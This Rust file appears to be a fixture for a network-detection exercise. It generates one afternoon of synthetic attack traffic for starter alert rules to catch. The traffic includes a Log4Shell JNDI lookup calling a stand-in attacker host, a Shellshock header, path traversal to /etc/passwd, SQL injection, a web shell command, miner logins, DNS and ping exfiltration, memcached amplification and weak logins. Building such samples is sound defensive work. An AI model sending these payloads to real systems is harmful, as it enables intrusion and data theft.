//! What goes wrong that afternoon, in the order of time. `super::ALERTS` counts what the starter rules must say.

use super::office::outside;
use crate::{
    cases::{
        payload::{self, get, request, response},
        starter_network,
    },
    traffic::{Clock, Host, Ping, Record, Side, TcpSession, UdpExchange, Wire, link::Tag, tcp},
};

const INTRANET: &str = "10.20.0.80";
const ATTACKER: &str = "203.0.113.66";

fn session(wire: Wire, ports: (u16, u16), at_ms: u64) -> TcpSession {
    TcpSession::new(wire, ports.0, ports.1).starting(Clock::after_ms(at_ms)).handshake()
}

/// One request to the intranet server and its answer.
fn asked(at_ms: u64, port: u16, line: &[u8], answer: &[u8]) -> Vec<Record> {
    let wire = Wire::between(outside(ATTACKER), Host::at(INTRANET));
    session(wire, (port, 80), at_ms).client(line).server(answer).close(Side::Client).records()
}

/// All of it.
pub fn traffic() -> Vec<Record> {
    let parts = [old_machines(), scan(), web_attacks(), downloads(), tunnels(), floods(), logins(), advertisements()];
    parts.into_iter().flatten().collect()
}

/// A printer and a till that speak what nobody should.
fn old_machines() -> Vec<Record> {
    let printer = session(Wire::of("10.20.1.200", "10.20.0.80"), (41_200, 443), 12_000);
    let printer = printer.client(&payload::client_hello(0x0301, "print.branch.example")).close(Side::Server);
    let till = session(Wire::of("10.20.1.201", "10.20.0.44"), (41_201, 445), 33_000);
    let till = till.client(&payload::smb_negotiate(&["LANMAN1.0", "NT LM 0.12"])).close(Side::Server);
    [printer.records(), till.records()].concat()
}

/// Sixty ports tried in little more than a second.
fn scan() -> Vec<Record> {
    starter_network::probes(64_000, tcp::SYN, (20..80).map(|port| port * 13))
}

/// Tries on the intranet server; two of them tell that the server is lost already.
fn web_attacks() -> Vec<Record> {
    let refused = response("404 Not Found", "text/plain", b"nothing here\n");
    let agent = |text: &str| request("GET /login", "intranet.branch.example", &[&format!("User-Agent: {text}")], "");
    let lookup = agent("${jndi:ldap://203.0.113.66:1389/x}");
    let six = Wire::between(outside("2001:db8:bad::66"), Host::at("2001:db8:20::80"));
    let over_six = |port, at_ms, line: &[u8]| {
        session(six.clone(), (port, 80), at_ms).client(line).server(&refused).close(Side::Client).records()
    };
    let passwords = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
    let host = "intranet.branch.example";
    let steps = get("/static/../../../../etc/hosts", host);
    let union = get("/item?id=7+union+select+name,card+from+customers", host);
    [
        asked(90_000, 40_001, &lookup, &refused),
        over_six(40_002, 92_000, &lookup),
        over_six(40_003, 95_000, &agent("() { :;}; /usr/bin/id")),
        asked(120_000, 40_004, &steps, &refused),
        asked(121_500, 40_005, &steps, &refused),
        asked(
            124_000,
            40_006,
            &get("/static/../../../../etc/passwd", host),
            &response("200 OK", "text/plain", passwords),
        ),
        asked(140_000, 40_007, &union, &refused),
        asked(143_000, 40_008, &union, &refused),
        asked(
            160_000,
            40_009,
            &get("/up/a.php?c=id", host),
            &response("200 OK", "text/plain", b"uid=0(root) gid=0(root)\n"),
        ),
    ]
    .concat()
}

/// A guest fetches a test virus, a desk a program by script, two machines look for a mining pool.
fn downloads() -> Vec<Record> {
    let guest = Wire::between(Host::at("10.20.40.17"), outside("198.51.100.99")).tagged(&[Tag::vlan(40)]);
    let eicar = payload::EICAR.concat();
    let eicar = session(guest, (40_101, 80), 210_000)
        .client(&get("/eicar.com", "files.example"))
        .server(&response("200 OK", "application/octet-stream", eicar.as_bytes()))
        .close(Side::Client);
    let agent = "User-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1";
    let program = session(Wire::between(Host::at("10.20.2.19"), outside("198.51.100.98")), (40_102, 80), 232_000)
        .client(&request("GET /update.bin", "198.51.100.98", &[agent], ""))
        .server(&response("200 OK", "application/octet-stream", &payload::windows_program()))
        .close(Side::Client);
    let login = b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48abcd\",\"pass\":\"x\",\"agent\":\"miner/6.2\"}}\n";
    let job = b"{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"status\":\"OK\"}}\n";
    let mut records = [eicar.records(), program.records()].concat();
    for (host, at_ms) in [("10.20.2.19", 251_000), ("10.20.3.28", 268_000)] {
        let wire = Wire::between(Host::at(host), outside("198.51.100.33"));
        records.extend(session(wire, (40_103, 3_333), at_ms).client(login).server(job).close(Side::Client).records());
    }
    records
}

/// Data carried out in names and in echoes.
fn tunnels() -> Vec<Record> {
    let wire = Wire::between(Host::at("10.20.3.28"), outside("198.51.100.53"));
    let mut exchange = UdpExchange::new(wire, 40_201, 53).starting(Clock::after_ms(300_000));
    for id in 0..12 {
        let first: String = (0..56_u16).map(|place| char::from(b'a' + ((place * 7 + id * 3) % 26) as u8)).collect();
        let name = format!("{first}.{}.t.example", first.to_uppercase());
        exchange = exchange.client(&payload::dns_query(id, &name, payload::TXT));
    }
    let mut ping =
        Ping::new(Wire::between(Host::at("10.20.3.28"), outside("198.51.100.54"))).starting(Clock::after_ms(330_000));
    for _ in 0..8 {
        ping = ping.echo(&[0x2e; 700]);
    }
    [exchange.records(), ping.records()].concat()
}

/// The house used against others: statistics of a cache asked for with a forged sender.
fn floods() -> Vec<Record> {
    let wire = Wire::between(outside("203.0.113.7"), Host::at("10.20.0.9"));
    let stats = b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n";
    let exchange = UdpExchange::new(wire, 80, 11_211).starting(Clock::after_ms(385_000));
    exchange.client(stats).client(stats).client(stats).records()
}

/// Root in cleartext, a community everybody knows, a zone that should stay inside.
fn logins() -> Vec<Record> {
    let ftp = session(Wire::between(outside(ATTACKER), Host::at("10.20.0.21")), (40_301, 21), 430_000)
        .server(b"220 files.branch.example\r\n")
        .client(b"USER root\r\n")
        .server(b"331 password\r\n")
        .client(b"PASS toor\r\n")
        .server(b"530 no\r\n")
        .close(Side::Client);
    let telnet = session(Wire::of("10.20.4.11", "10.20.0.2"), (40_302, 23), 455_000)
        .server(b"switch login: ")
        .client(b"root\r\n")
        .server(b"\r\nroot@switch:~# ")
        .client(b"exit\r\n")
        .close(Side::Server);
    let snmp = UdpExchange::new(Wire::of("10.20.4.11", "10.20.0.2"), 40_303, 161).starting(Clock::after_ms(462_000));
    let transfer = payload::dns_over_tcp(&payload::dns_query(99, "branch.example", payload::AXFR));
    let zone = session(Wire::between(outside(ATTACKER), Host::at("10.20.0.53")), (40_304, 53), 500_000);
    [
        ftp.records(),
        telnet.records(),
        snmp.client(&payload::snmp_get(1, "public")).client(&payload::snmp_get(1, "public")).records(),
        zone.client(&transfer).server(&payload::dns_over_tcp(&[0; 12])).close(Side::Client).records(),
    ]
    .concat()
}

/// Somebody says to be the router.
fn advertisements() -> Vec<Record> {
    [540_000, 550_000, 560_000]
        .into_iter()
        .flat_map(|at_ms| starter_network::advertisement(at_ms, "2001:db8:20::bad", 255))
        .collect()
}
